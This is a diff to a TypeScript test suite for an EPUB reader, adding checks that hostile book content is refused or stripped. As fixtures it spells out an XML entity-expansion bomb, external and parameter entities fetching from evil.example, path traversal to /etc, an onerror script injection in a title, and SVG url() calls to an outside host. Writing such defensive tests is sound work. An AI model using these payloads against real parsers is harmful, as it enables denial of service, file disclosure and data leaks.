@@ -256,10 +256,19 @@ test.each(hostile)('%s does nothing and asks nobody', async (name, body, head) =
 });
 
 test.each<[string, Uint8Array, RegExp]>([
-  ['a file that is no zip', strToU8('<html>404</html>'), /not_a_zip/],
+  ['a file that is no zip', strToU8('<html>404</html>'), /not_a_zip|not_zip/],
   ['a zip that is no book', zipSync({ 'a.txt': strToU8('a') }), /missing_file/],
-  ['a package with entities', book(xhtml('a'), {}, `<!DOCTYPE p [<!ENTITY a "b">]>${opf()}`), /xml/],
-  ['a package that climbs out', book(xhtml('a'), {}, opf().replace('c.xhtml', '../../c.xhtml')), /spine/],
+  [
+    'a package with entities that build on each other',
+    book(xhtml('a'), {}, `<!DOCTYPE p [<!ENTITY a "b"><!ENTITY c "&a;&a;">]>${opf()}`),
+    /entities/,
+  ],
+  ['a package that climbs out', book(xhtml('a'), {}, opf().replace('c.xhtml', '../../c.xhtml')), /bad_name/],
+  [
+    'a package with a root of its own',
+    book(xhtml('a'), {}, opf().replace('c.xhtml', '/etc/c.xhtml')),
+    /bad_name/,
+  ],
   ['a package without chapters', book(xhtml('a'), {}, opf().replace('<itemref idref="c"/>', '')), /spine/],
   [
     'a locked book',
@@ -277,4 +286,106 @@ test('markup in a title is text', async () => {
   const opened = await open(book(xhtml('a'), {}, opf().replace('Thử', `&lt;img src=x onerror=${LEAK}&gt;`)));
   expect(opened.title).toBe(`<img src=x onerror=${LEAK}>`);
   expect(opened.leaked).toBeUndefined();
+});
+
+const navItem = '<item id="n" href="n.xhtml" media-type="application/xhtml+xml" properties="nav"/>';
+const withNav = (nav: string) => book(xhtml('<p>a</p>'), { 'o/n.xhtml': nav }, opf('', navItem));
+
+/** Ten levels of ten: eleven gigabytes of letters out of two kilobytes, where somebody applies them. */
+const nested = Array.from(
+  { length: 9 },
+  (_, level) => `<!ENTITY e${level + 1} "${`&e${level};`.repeat(10)}">`,
+).join('');
+const bomb = `<!DOCTYPE html [<!ENTITY e0 "haha haha ">${nested}]>`;
+
+test.each([
+  [
+    'nested entities in the table of contents',
+    `${bomb}${xhtml('<nav><ol><li><a href="c.xhtml">&e9;</a></li></ol></nav>')}`,
+  ],
+  [
+    'an entity from outside in the table of contents',
+    `<!DOCTYPE html [<!ENTITY x SYSTEM "https://evil.example/x">]>${xhtml('<nav><ol><li><a href="c.xhtml">&x;</a></li></ol></nav>')}`,
+  ],
+  [
+    'a parameter entity',
+    `<!DOCTYPE html [<!ENTITY % x SYSTEM "https://evil.example/x">%x;]>${xhtml('<nav/>')}`,
+  ],
+])('%s is refused at once', async (_, nav) => {
+  const before = Date.now();
+  const opened = await open(withNav(nav));
+  expect(opened.reason).toBe('entities');
+  expect(asked).toEqual([]);
+  // The frame was frozen for eleven seconds and more.
+  expect(Date.now() - before).toBeLessThan(5_000);
+});
+
+test('nested entities in a chapter are refused as well', async () => {
+  expect((await open(book(`${bomb}${xhtml('<p>&e9;</p>')}`))).reason).toBe('entities');
+});
+
+test('entities of one level are taken away and their names stay words', async () => {
+  const opened = await open(
+    withNav(
+      `<!DOCTYPE html [<!ENTITY t "Tên">]>${xhtml('<nav><ol><li><a href="c.xhtml">Một</a></li></ol></nav>')}`,
+    ),
+  );
+  expect(opened.reason).toBeUndefined();
+  expect(opened.toc?.[0]?.label).toBe('Một');
+});
+
+test('a chapter in UTF-16 is read as at import', async () => {
+  const text = `\uFEFF<?xml version="1.0" encoding="UTF-16"?>${xhtml('<p>Gió bấc về</p>')}`;
+  const bytes = new Uint8Array(Buffer.from(text, 'utf16le'));
+  const opened = await open(book('', { 'o/c.xhtml': bytes }));
+  expect(opened.reason).toBeUndefined();
+  expect(opened.chapters?.[0]).toContain('Gió bấc về');
+});
+
+test('a drawing paints with its own parts alone', async () => {
+  const drawing = (paint: string) =>
+    `<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 9 9"><defs><linearGradient id="g"/></defs>${paint}</svg>`;
+  const opened = await open(
+    book(
+      xhtml(
+        drawing(
+          '<rect fill="url(https://evil.example/a#x)" stroke="url(\'//evil.example/b#x\')" mask="u\\72l(https://evil.example/c)" width="9" height="9"/><circle fill="url(#g)" style="stroke:url(#g);fill:url(https://evil.example/d)" r="4"/>',
+        ),
+      ),
+    ),
+  );
+  const [html = ''] = opened.chapters ?? [];
+  expect(html).not.toContain('evil.example');
+  expect(html).toContain('fill="url(#g)"');
+  expect(html).toMatch(/stroke:\s*url\((&quot;|")?#g/);
+  expect(asked).toEqual([]);
+});
+
+test('sizes in units of the window become sizes of the page', async () => {
+  const opened = await open(
+    book(
+      xhtml(
+        '<div style="width:200vw;height:200dvh">a</div>',
+        '<style>p{min-height:calc(50vh - 1em);width:10vmin;--page-vw:9999px}</style>',
+      ),
+    ),
+  );
+  const [html = ''] = opened.chapters ?? [];
+  expect(html).toMatch(/width:\s*calc\(200 ?\* ?var\(--page-vw/);
+  expect(html).toMatch(/height:\s*calc\(200 ?\* ?var\(--page-vh/);
+  expect(html).not.toMatch(/\d(vw|vh|vmin|dvh)\b|9999px/);
+});
+
+test('words of a book that leave in messages are short', async () => {
+  const long = 'Dài '.repeat(50_000);
+  const opened = await open(
+    book(
+      xhtml(`<h1>${long}</h1>`),
+      { 'o/n.xhtml': xhtml(`<nav><ol><li><a href="c.xhtml">${long}</a></li></ol></nav>`) },
+      opf('', navItem).replace('Thử', long),
+    ),
+  );
+  expect(opened.reason).toBeUndefined();
+  expect(opened.title?.length).toBeLessThanOrEqual(2_000);
+  expect(opened.toc?.[0]?.label.length).toBeLessThanOrEqual(300);
 });
